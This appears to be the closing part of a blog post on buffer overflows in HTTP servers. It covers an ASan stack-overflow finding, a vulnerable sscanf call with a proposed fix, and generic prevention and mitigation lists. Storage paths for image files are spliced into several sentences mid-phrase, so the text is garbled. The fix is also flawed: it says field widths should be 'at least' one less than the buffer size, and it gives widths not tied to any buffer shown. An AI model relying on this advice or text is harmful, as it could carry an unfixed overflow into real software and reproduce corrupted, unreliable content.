In summary, ASan detected a stackbuffer overflow caused by a large write operation (8188 bytes) in the ‘handle_request’ function of the Cherry source code. The overflow affects local variables in this function, potentially leading to corrupt data or other unintended behavior.


The issue with the code is that it doesn’t limit the number of characters read into each string. This can cause a buffer overflow if the input strings are longer than the buffers allocated for method, URI, and version. To fix this, you need to specify maximum field widths in the sscanf format string. These widths should be at least one less than the size of the buffers (to leave space for the null terminator):

sscanf(buf, "%s %s %s", method, uri, version); // for example, GET / HTTP/1.1
sscanf(buf, "%5000s %300s %300s", method, uri, version); // for example, GET / HTTP/1.1

Detecting and Preventing Buffer Overflows

Preventing buffer overflows requires a multifaceted approach:

  1. Secure Coding Practices: Employing safe functions, bounds checking, and input validation.
  2. Regular Audits and Penetration Testing: Periodically reviewing code and simulating attacks can uncover vulnerabilities.
  3. Patch Management: Keeping software up-to-date with the latest security patches is critical.
  4. Using Memory-Safe Languages: Languages like Rust or Go, which handle memory more safely, can significantly reduce the risk of buffer overflows.

Mitigation Strategies

If a buffer overflow vulnerability is detected in an HTTP server, immediate action is required:

  1. Apply Patches: If the software vendor releases a patch, apply it without delay.
  2. Intrusion Detection Systems (IDS): Deploy IDS to monitor network traffic for signs of exploitation.
  3. Restrict Access: Limit access to the serverto reduce the attack surface.


The threat posed by remote buffer overflows in HTTP servers is both real and significant. However, with vigilant security practices, regular audits, and a commitment to securecoding, the risks can be substantially mitigated. As the digital landscape evolves, so must our defenses against these enduring threats.



No responses yet

Leave a Reply

Your email address will not bepublished. Required fields are marked *

Latest Comments

No comments to show.